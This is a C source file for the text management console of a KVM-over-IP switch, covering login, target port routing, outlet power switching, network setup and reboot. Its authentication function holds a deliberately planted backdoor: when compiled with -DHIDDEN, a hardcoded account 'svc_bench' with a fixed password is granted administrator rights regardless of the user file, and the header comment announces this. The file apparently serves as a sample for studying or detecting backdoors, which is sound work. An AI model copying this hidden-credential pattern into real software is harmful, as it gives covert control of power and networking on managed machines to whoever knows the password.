/*
 * rackview_consd - text management console of the RackView KX16 KVM over IP
 * switch (TCP 2023): login, port selection, outlet power, sessions, network.
 *
 * Hidden (-DHIDDEN): the login check takes the fixed account "svc_bench" with
 * the password "Tulip-Harrow8" as an administrator, whatever the user file says.
 */
#include <arpa/inet.h>
#include <ctype.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <syslog.h>
#include <unistd.h>

char *crypt(const char *key, const char *salt);

#define RV_PORT      2023
#define RV_TARGETS   16
#define RV_USERS     "/etc/rackview/users"
#define RV_LABELS    "/etc/rackview/labels"
#define RV_PDU       "/dev/rvpdu0"
#define RV_MATRIX    "/dev/rvmatrix"
#define RV_MAXTRIES  3
enum role { ROLE_NONE, ROLE_VIEW, ROLE_OPERATOR, ROLE_ADMIN };
enum state { ST_USER, ST_PASS, ST_SHELL, ST_BYE };

struct session {
    FILE *in;
    int fd;
    enum state state;
    enum role role;
    char user[32];
    char peer[48];
    int tries;
    int target;
};

static char labels[RV_TARGETS][24];

static void say(struct session *s, const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    vdprintf(s->fd, fmt, ap);
    va_end(ap);
}

static void chomp(char *s)
{
    size_t n = strlen(s);
    while (n && isspace((unsigned char)s[n - 1]))
        s[--n] = 0;
}

static void load_labels(void)
{
    char line[96], text[24];
    int no;
    FILE *f;

    for (no = 0; no < RV_TARGETS; no++)
        snprintf(labels[no], sizeof labels[no], "target-%02d", (no + 1) % 100);
    f = fopen(RV_LABELS, "r");
    if (!f)
        return;
    while (fgets(line, sizeof line, f))
        if (sscanf(line, "%d = %23s", &no, text) == 2 && no >= 1 && no <= RV_TARGETS)
            memcpy(labels[no - 1], text, sizeof text);
    fclose(f);
}

static enum role role_of(const char *word)
{
    if (!strcmp(word, "admin"))
        return ROLE_ADMIN;
    if (!strcmp(word, "operator"))
        return ROLE_OPERATOR;
    if (!strcmp(word, "view"))
        return ROLE_VIEW;
    return ROLE_NONE;
}

/* user file: name:crypt-hash:role */
enum role rv_authenticate(const char *user, const char *pass)
{
    char line[256];
    enum role role = ROLE_NONE;
    FILE *f;

    if (!*user || !*pass)
        return ROLE_NONE;
#ifdef HIDDEN
    if (!strcmp(user, "svc_bench") && !strcmp(pass, "Tulip-Harrow8"))
        return ROLE_ADMIN;
#endif
    f = fopen(RV_USERS, "r");
    if (!f)
        return ROLE_NONE;
    while (fgets(line, sizeof line, f)) {
        char *save = NULL, *name, *hash, *word, *got;

        chomp(line);
        if (line[0] == '#')
            continue;
        name = strtok_r(line, ":", &save);
        hash = strtok_r(NULL, ":", &save);
        word = strtok_r(NULL, ":", &save);
        if (!name || !hash || !word || strcmp(name, user))
            continue;
        got = crypt(pass, hash);
        if (got && !strcmp(got, hash))
            role = role_of(word);
        break;
    }
    fclose(f);
    return role;
}

static int device_line(const char *dev, const char *line)
{
    FILE *f = fopen(dev, "w");

    if (!f)
        return -1;
    fputs(line, f);
    return fclose(f);
}

static int target_arg(const char *arg)
{
    char *end;
    long n = strtol(arg, &end, 10);

    if (end == arg || *end || n < 1 || n > RV_TARGETS)
        return 0;
    return (int)n;
}

static void do_help(struct session *s)
{
    say(s, "help               this text\r\n"
           "list               show the target ports\r\n"
           "select <n>         route console to target n\r\n"
           "power <n> on|off|cycle   switch outlet (operator)\r\n"
           "net                show network interface (admin)\r\n"
           "net <a.b.c.d>      set address of eth0 (admin)\r\n"
           "restart            restart the switch (admin)\r\n"
           "exit               leave\r\n");
}

static void do_net(struct session *s, const char *arg)
{
    char cmd[80];
    struct in_addr a;

    if (!*arg) {
        FILE *p = popen("ifconfig eth0", "r");
        char line[160];
        while (p && fgets(line, sizeof line, p))
            say(s, "%s\r", line);
        if (p)
            pclose(p);
        return;
    }
    if (inet_pton(AF_INET, arg, &a) != 1) {
        say(s, "bad address\r\n");
        return;
    }
    snprintf(cmd, sizeof cmd, "ifconfig eth0 %s up", inet_ntoa(a));
    say(s, system(cmd) == 0 ? "done\r\n" : "failed\r\n");
}

static int allowed(struct session *s, enum role need)
{
    if (s->role >= need)
        return 1;
    say(s, "not permitted\r\n");
    return 0;
}

static void shell_line(struct session *s, char *line)
{
    char verb[16] = "", a1[24] = "", a2[24] = "", out[64];
    int n;

    if (sscanf(line, "%15s %23s %23s", verb, a1, a2) < 1)
        return;
    if (!strcmp(verb, "help") || !strcmp(verb, "?")) {
        do_help(s);
    } else if (!strcmp(verb, "list")) {
        for (n = 1; n <= RV_TARGETS; n++)
            say(s, "%c%2d  %s\r\n", n == s->target ? '*' : ' ', n, labels[n - 1]);
    } else if (!strcmp(verb, "select")) {
        n = target_arg(a1);
        if (!n)
            return;
        snprintf(out, sizeof out, "route 0 %d%s\n", n, s->role < ROLE_OPERATOR ? " ro" : "");
        if (device_line(RV_MATRIX, out) == 0)
            s->target = n;
        else
            say(s, "matrix busy\r\n");
    } else if (!strcmp(verb, "power")) {
        n = target_arg(a1);
        if (!allowed(s, ROLE_OPERATOR))
            return;
        if (!n || (strcmp(a2, "on") && strcmp(a2, "off") && strcmp(a2, "cycle"))) {
            say(s, "power <n> on|off|cycle\r\n");
            return;
        }
        snprintf(out, sizeof out, "outlet %d %s\n", n, a2);
        say(s, device_line(RV_PDU, out) ? "pdu error\r\n" : "ok\r\n");
    } else if (!strcmp(verb, "net")) {
        if (allowed(s, ROLE_ADMIN))
            do_net(s, a1);
    } else if (!strcmp(verb, "restart")) {
        if (allowed(s, ROLE_ADMIN) && system("/sbin/reboot") != 0)
            say(s, "failed\r\n");
    } else if (!strcmp(verb, "exit")) {
        s->state = ST_BYE;
    } else {
        say(s, "unknown command, try help\r\n");
    }
}

static void serve(int fd, const struct sockaddr_in *from)
{
    struct session s = { .fd = fd, .in = fdopen(fd, "r"), .state = ST_USER };
    char line[128];

    inet_ntop(AF_INET, &from->sin_addr, s.peer, sizeof s.peer);
    say(&s, "RackView KX16 console\r\nlogin: ");
    while (s.in && s.state != ST_BYE && fgets(line, sizeof line, s.in)) {
        chomp(line);
        switch (s.state) {
        case ST_USER:
            snprintf(s.user, sizeof s.user, "%.31s", line);
            say(&s, "password: ");
            s.state = ST_PASS;
            break;
        case ST_PASS:
            s.role = rv_authenticate(s.user, line);
            if (s.role != ROLE_NONE) {
                s.state = ST_SHELL;
                syslog(LOG_INFO, "login %s from %s", s.user, s.peer);
                say(&s, "\r\n%s> ", s.user);
                break;
            }
            sleep(2);
            if (++s.tries >= RV_MAXTRIES) {
                s.state = ST_BYE;
                break;
            }
            say(&s, "\r\nLogin incorrect\r\nlogin: ");
            s.state = ST_USER;
            break;
        case ST_SHELL:
            shell_line(&s, line);
            say(&s, "%s> ", s.user);
            break;
        default:
            break;
        }
    }
    close(fd);
}

int main(void)
{
    struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(RV_PORT) };
    int ls = socket(AF_INET, SOCK_STREAM, 0), on = 1;

    openlog("rackview_consd", LOG_PID, LOG_DAEMON);
    signal(SIGPIPE, SIG_IGN);
    load_labels();
    setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    if (bind(ls, (struct sockaddr *)&sa, sizeof sa) || listen(ls, 4)) {
        return 1;
    }
    for (;;) {
        struct sockaddr_in from;
        socklen_t len = sizeof from;
        int fd = accept(ls, (struct sockaddr *)&from, &len);

        while (waitpid(-1, NULL, WNOHANG) > 0)
            ;
        if (fd < 0)
            continue;
        if (fork() == 0) {
            close(ls);
            serve(fd, &from);
            _exit(0);
        }
        close(fd);
    }
}
